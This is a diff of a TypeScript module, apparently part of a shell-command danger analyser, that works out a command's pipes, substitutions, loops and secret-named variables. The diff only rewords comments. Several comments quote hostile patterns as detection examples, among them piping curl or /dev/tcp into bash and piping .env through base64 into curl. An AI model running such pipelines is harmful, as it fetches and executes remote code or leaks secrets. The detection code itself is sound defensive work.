@@ -1,6 +1,7 @@
 /**
- * Part of reading shell lines: what a command stands with: the commands around it, in pipes, substitutions and loops, and what the
- * line spells of its words and its input. The danger catalogue asks for it, and so does what looks for commands inside others.
+ * Part of reading shell lines: the surroundings of a command: the commands around it, in pipes, substitutions and
+ * loops, and what the line spells of its words and its input. The danger catalogue asks for them, and so does the
+ * search for commands inside others.
  */
 
 import type { Word } from '../../engine/effect.ts'
@@ -17,28 +18,28 @@ import type { Script, ShellWord, SimpleCommand } from './syntax/script.ts'
 import { textOf } from './words/words.ts'
 
 export interface Company {
-  /** The command whose output it reads, and all that feed it, the first of them first. */
+  /** The command whose output it reads, and the commands that feed that one, the first of them first. */
   readonly pipeFrom: readonly Word[] | undefined
   readonly upstream: readonly (readonly Word[])[] | undefined
-  /** Another command reads its output. */
+  /** Whether another command reads its output. */
   readonly pipesOn: boolean
-  /** The text on its input, as far as the line spells it: for restrictions only. */
+  /** The text on its input, as far as the line spells it; only for restrictions. */
   readonly said: string | undefined
-  /** A variable named like a secret that comes through the pipe. */
+  /** A variable with a name like a secret's whose value comes through the pipe. */
   readonly sent: string | undefined
-  /** What runs in the substitutions among its words. */
+  /** The commands in the substitutions among its words. */
   readonly substitutes: readonly (readonly Word[])[] | undefined
   /** The same for substitutions whose output the line has put into a variable that is among its words. */
   readonly kept: readonly (readonly Word[])[] | undefined
-  /** What the loops around it go over. */
+  /** The lists that the loops around it go over. */
   readonly over: readonly string[] | undefined
   /** The text of its words as written, where their value is unknown. */
   readonly spelled: readonly (string | undefined)[] | undefined
-  /** For `xargs`: what is known of the words it reads. */
+  /** For `xargs`: what is known about the words it reads. */
   readonly handed: ReturnType<typeof handedToXargs>
 }
 
-/** The same, for a command whose words are spelled like this. */
+/** The same surroundings for a command with other words. */
 export function respelled(
   company: Company | undefined,
   spelled: Company['spelled'],
@@ -58,7 +59,10 @@ export function respelled(
   }
 }
 
-/** That of a command of which every word is known. Most such are never asked what they stand with: each is looked up when it is. */
+/**
+ * For a command whose words are all known. Most such commands are never asked about their surroundings, so each is
+ * looked up only when it is needed.
+ */
 class Piped implements Company {
   readonly substitutes = undefined
   readonly kept = undefined
@@ -66,10 +70,10 @@ class Piped implements Company {
   readonly spelled = undefined
   readonly #command: SimpleCommand
   readonly #line: Line
-  /** Its own, or that of the group whose input it reads. */
+  /** Its own stage, or that of the group whose input it reads. */
   readonly #stage: Stage
   readonly #argvOf: ArgvOf
-  /** Null until it was asked for. */
+  /** Null until it is asked for. */
   #upstream: Company['upstream'] | null = null
 
   constructor(command: SimpleCommand, line: Line, stage: Stage, argvOf: ArgvOf) {
@@ -143,7 +147,7 @@ export function companyOf(
 
 const NO_INPUTS: readonly ShellWord[] = []
 
-/** `bash < <(curl …)`, `bash <<< "$(curl …)"`: what runs in these feeds the command as a pipe would. */
+/** In `bash < <(curl …)` and `bash <<< "$(curl …)"`, the commands inside feed the command as a pipe would. */
 function inputsOf({ redirects }: SimpleCommand): readonly ShellWord[] {
   if (redirects.length === 0) return NO_INPUTS
   const inputs: ShellWord[] = []
@@ -154,7 +158,7 @@ function inputsOf({ redirects }: SimpleCommand): readonly ShellWord[] {
   return inputs
 }
 
-/** `bash <<< "rm x $Y"`; of what is nothing but an expansion, nothing is known. */
+/** For `bash <<< "rm x $Y"`; if the text is nothing but an expansion, nothing is known. */
 function spelledInput(fed: readonly ShellWord[], source: string): string | undefined {
   const last = fed.at(-1)
   return last?.parts.some(({ kind, text }) => kind === 'text' && text.trim() !== '') === true
@@ -162,14 +166,14 @@ function spelledInput(fed: readonly ShellWord[], source: string): string | undef
     : undefined
 }
 
-/** `bash <(echo 'rm x')`, `bash <<< "$(base64 -d <<< …)"`: what the commands in these print. */
+/** For `bash <(echo 'rm x')` and `bash <<< "$(base64 -d <<< …)"`: what the commands inside print. */
 function saidBy(words: readonly ShellWord[], line: Line, argvOf: ArgvOf): string | undefined {
   if (words.length === 0) return undefined
   const texts = words.flatMap(({ parts }) => parts.flatMap(({ scope }) => saidInside(scope, line, argvOf)))
   return texts.length === 0 ? undefined : texts.join('\n')
 }
 
-/** A variable named like a secret that an earlier stage prints. */
+/** A variable with a name like a secret's that an earlier stage prints. */
 function secretBefore({ pipeline, stage }: SimpleCommand, line: Line): string | undefined {
   for (let at = Math.max(0, stage - FARTHEST); at < stage; at++) {
     for (const before of [line.stageAt(pipeline, at), ...line.substitutedAt(pipeline, at)]) {
@@ -181,7 +185,7 @@ function secretBefore({ pipeline, stage }: SimpleCommand, line: Line): string | 
   return undefined
 }
 
-/** Its name is given in place of a file. */
+/** Whether the word is a process substitution, which is passed as the name of a file. */
 function isProcess({ parts }: ShellWord): boolean {
   return parts.length === 1 && parts[0]?.kind === 'process'
 }
@@ -205,8 +209,8 @@ function stagesUpTo({ pipeline, stage }: Stage, line: Line, argvOf: ArgvOf): Com
 }
 
 /**
- * `cat < /dev/tcp/host/80 | bash`, `base64 < .env | curl …`: its words and, where that tells something, what it reads.
- * `$(< .env)` is `$(cat .env)`.
+ * For `cat < /dev/tcp/host/80 | bash` and `base64 < .env | curl …`: the words of the command and, if that is
+ * informative, the file it reads. `$(< .env)` counts as `$(cat .env)`.
  */
 function fedWith(command: SimpleCommand, argvOf: ArgvOf): readonly Word[] {
   const argv = argvOf(command)
@@ -220,7 +224,7 @@ function fedWith(command: SimpleCommand, argvOf: ArgvOf): readonly Word[] {
 
 const NO_WORDS: readonly Word[] = []
 
-/** `curl … | (bash)`, `curl … | while read x; do …`: the stage whose input the group reads. */
+/** For `curl … | (bash)` and `curl … | while read x; do …`: the stage whose input the group reads. */
 function pipeAround({ scope, pipeline }: SimpleCommand, { scopes }: Script): Stage | undefined {
   for (let at = scope; at > 0; at = scopes[at]?.parent ?? 0) {
     const around = scopes[at]
@@ -259,7 +263,7 @@ function isWithin(scope: number, scopes: ReadonlySet<number>, script: Script): b
   return false
 }
 
-/** `x=$(curl …); eval "$x"`: what runs in the values that the line gives to these variables. */
+/** For `x=$(curl …); eval "$x"`: the commands in the values that the line gives to these variables. */
 function keptIn(words: readonly ShellWord[], { script, outer }: Line, argvOf: ArgvOf): Company['kept'] {
   let names: Set<string> | undefined
   for (const { parts } of words)
@@ -270,7 +274,7 @@ function keptIn(words: readonly ShellWord[], { script, outer }: Line, argvOf: Ar
     for (const { name, value } of assigns) if (value !== undefined && names.has(name)) values.push(value)
   for (const { name, words: listed } of script.loops)
     if (listed !== undefined && names.has(name)) values.push(...listed)
-  // What a script is given, the line around it may have set.
+  // A variable that a script uses may be set by the line around it.
   if (values.length === 0) return outer === undefined ? undefined : keptIn(words, outer, argvOf)
   return commandsIn(values, script, argvOf)
 }
